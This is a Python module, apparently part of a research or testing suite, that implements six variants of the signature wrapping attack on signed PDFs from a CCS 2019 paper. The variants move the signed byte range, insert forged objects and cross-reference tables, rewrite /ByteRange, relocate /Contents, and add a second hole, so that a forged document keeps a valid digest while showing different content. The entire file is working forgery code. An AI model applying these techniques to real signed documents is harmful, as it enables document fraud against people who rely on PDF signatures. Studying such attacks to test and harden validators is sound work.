"""SWA: signed bytes are moved aside and others take their place (CCS 2019, §4.3).

The second signed part begins behind the hole and ends with the file. It is moved back, the byte
range follows it, and where its table stood before stands one of the attacker: ``startxref``, which
is signed, leads there. So the digest may hold, and still another document is shown.
"""

import re

from attacks import writer
from attacks.incremental import FORGED
from attacks.victim import LEADER, LEADER_VALUE, Victim
from attacks.writer import write_objects, write_table

_RANGE = re.compile(rb"/ByteRange\[0 (\d{10}) (\d{10}) (\d{10})\]")


def parts(pdf: bytes) -> tuple[int, int, int, int]:
    """Return where the hole begins, ends, how long the rest is, and where the range stands."""
    found = _RANGE.search(pdf)
    if found is None:
        message = "no byte range"
        raise ValueError(message)
    start, stop, rest = (int(one) for one in found.groups())
    return start, stop, rest, found.start(1)


def _table(victim: Victim, body: bytes, forged: dict[int, int]) -> bytes:
    """Write the table that takes the place of the signed one, without its end."""
    pdf = victim.led
    own = {number: pdf.rindex(b"\n%d 0 obj" % number) + 1 for number in (LEADER, LEADER_VALUE)}
    before = writer.newest_section(victim.prepare())
    whole = write_table(body, {**own, **forged}, previous=before)
    return whole[len(body) : whole.rindex(b"startxref")]


def _wrapped(victim: Victim, *, padding: int, objects_first: bool = False) -> bytes:
    """Put forged objects and a table between the hole and the moved part."""
    pdf = victim.led
    start, stop, rest, at = parts(pdf)
    place = writer.newest_section(pdf)
    head = pdf[:place]
    length = len(_table(victim, head, dict.fromkeys(FORGED, 0)))
    body, places = write_objects(head + b" " * length, FORGED)
    between = head + _table(victim, head, places) + body[len(head) + length :]
    if objects_first:
        # The forged objects behind all that is signed: nothing but the table stands between.
        between = head + _table(victim, head, {})
    moved = between + b"\n" * padding
    whole = moved + pdf[stop : stop + rest]
    return whole[:at] + b"%010d %010d" % (start, len(moved)) + whole[at + 21 :]


def without_padding(victim: Victim) -> bytes:
    """Variant 1: forged objects and table stand straight before the moved part."""
    return _wrapped(victim, padding=0)


def with_padding(victim: Victim) -> bytes:
    """Variant 2: padding stands between them and the moved part."""
    return _wrapped(victim, padding=512)


def with_update(victim: Victim) -> bytes:
    """Variant 3: the signed part is moved, and the forged objects are an update behind it."""
    return writer.append(_wrapped(victim, padding=0, objects_first=True), FORGED)


def range_not_moved(victim: Victim) -> bytes:
    """The part is moved, but the byte range still says the old place."""
    wrapped = _wrapped(victim, padding=0)
    _, stop, _, at = parts(victim.led)
    return wrapped[: at + 11] + b"%010d" % stop + wrapped[at + 21 :]


def contents_moved(victim: Victim) -> bytes:
    """/Contents stands at the end of its hole; what is in front of it is for objects of others."""
    pdf = victim.led
    start, stop, _, _ = parts(pdf)
    key = pdf.rindex(b"/Contents", 0, start)
    digits = pdf[start + 1 : stop - 1].rstrip(b"0")
    contents = b"/Contents<%s>" % (digits + b"0" * (len(digits) % 2))
    return pdf[:key] + b"/Contentz<>".ljust(stop - key - len(contents)) + contents + pdf[stop:]


def second_hole(victim: Victim) -> bytes:
    """The range names three parts, so that two are left out."""
    pdf = victim.led
    start, stop, rest, at = parts(pdf)
    wide = b"[0 9 10 %d %d %d]" % (start - 10, stop, rest)
    return pdf[: at - 3] + wide.ljust(36) + pdf[at + 33 :]


ATTACKS = {
    "swa-without-padding": without_padding,
    "swa-with-padding": with_padding,
    "swa-with-update": with_update,
    "swa-range-not-moved": range_not_moved,
    "swa-contents-moved": contents_moved,
    "swa-second-hole": second_hole,
}
